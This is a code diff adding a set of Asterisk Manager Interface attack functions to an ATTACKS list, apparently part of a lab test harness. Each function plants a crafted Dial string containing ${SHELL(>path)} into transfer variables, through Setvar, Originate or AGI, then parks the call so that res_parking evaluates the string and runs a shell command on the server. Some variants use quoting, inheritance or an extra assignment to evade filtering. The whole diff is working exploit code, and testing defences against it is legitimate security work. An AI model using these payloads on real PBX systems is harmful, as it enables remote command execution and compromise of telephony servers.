@@ -130,6 +130,82 @@ async def hangup_handler(client: AmiClient, path: str) -> Message:
     )
 
 
+def comeback(path: str) -> str:
+    """What res_parking puts into the Dial of an extension that it makes, and evaluates at the timeout.
+
+    It cuts what is longer than 79 characters.
+    """
+    return f"Local/x@${{SHELL(>{path})}}-0000"
+
+
+async def in_application(client: AmiClient) -> str:
+    """The channel that the last Originate made, once it is answered and runs its application."""
+    answered = await client.wait_event("OriginateResponse")
+    return answered.get("Channel") or ""
+
+
+async def parked_after(client: AmiClient, variable: str, path: str) -> Message:
+    await client.action(
+        "Originate", Channel="Local/wait9-parked@lab", Application="Wait", Data="9", Async="true"
+    )
+    channel = await in_application(client)
+    assigned = await client.action("Setvar", Channel=channel, Variable=variable, Value=comeback(path))
+    if assigned.get("Response") == "Error":
+        return assigned
+    return await client.action("Park", Channel=channel, Timeout="1000")
+
+
+async def blind_transfer(client: AmiClient, path: str) -> Message:
+    return await parked_after(client, "BLINDTRANSFER", path)
+
+
+async def attended_transfer(client: AmiClient, path: str) -> Message:
+    return await parked_after(client, "ATTENDEDTRANSFER", path)
+
+
+async def inherited_transfer(client: AmiClient, path: str) -> Message:
+    return await parked_after(client, "__BLINDTRANSFER", path)
+
+
+async def planted(client: AmiClient, *variables: str) -> Message:
+    placed = await client.action(
+        "Originate",
+        *(("Variable", variable) for variable in variables),
+        Channel="Local/wait9-planted@lab",
+        Application="Wait",
+        Data="9",
+        Async="true",
+    )
+    if placed.get("Response") == "Error":
+        return placed
+    return await client.action("Park", Channel=await in_application(client), Timeout="1000")
+
+
+async def planted_by_originate(client: AmiClient, path: str) -> Message:
+    return await planted(client, f"BLINDTRANSFER={comeback(path)}")
+
+
+async def planted_behind_another(client: AmiClient, path: str) -> Message:
+    return await planted(client, "CAMPAIGN=1", f"A=1,_ATTENDEDTRANSFER={comeback(path)}")
+
+
+async def planted_in_quotes(client: AmiClient, path: str) -> Message:
+    return await planted(client, f'"BLIND"TRANSFER={comeback(path)}')
+
+
+async def transfer_under_agi(client: AmiClient, path: str) -> Message:
+    await client.action("Originate", Channel="Local/agi@lab", Application="Wait", Data="9", Async="true")
+    started = await client.wait_event("AsyncAGIStart")
+    channel = started.get("Channel") or ""
+    assigned = await client.action(
+        "AGI", Channel=channel, Command=f'SET VARIABLE BLINDTRANSFER "{comeback(path)}"'
+    )
+    if assigned.get("Response") == "Error":
+        return assigned
+    await client.wait_event("AsyncAGIExec")
+    return await client.action("Park", Channel=channel, Timeout="1000")
+
+
 Attack = Callable[[AmiClient, str], Awaitable[Message]]
 ATTACKS: list[Attack] = [
     self_evaluating,
@@ -137,6 +213,13 @@ ATTACKS: list[Attack] = [
     recorded_queue,
     recorded_queue_s_command,
     hangup_handler,
+    blind_transfer,
+    attended_transfer,
+    inherited_transfer,
+    planted_by_originate,
+    planted_behind_another,
+    planted_in_quotes,
+    transfer_under_agi,
 ]
 
 
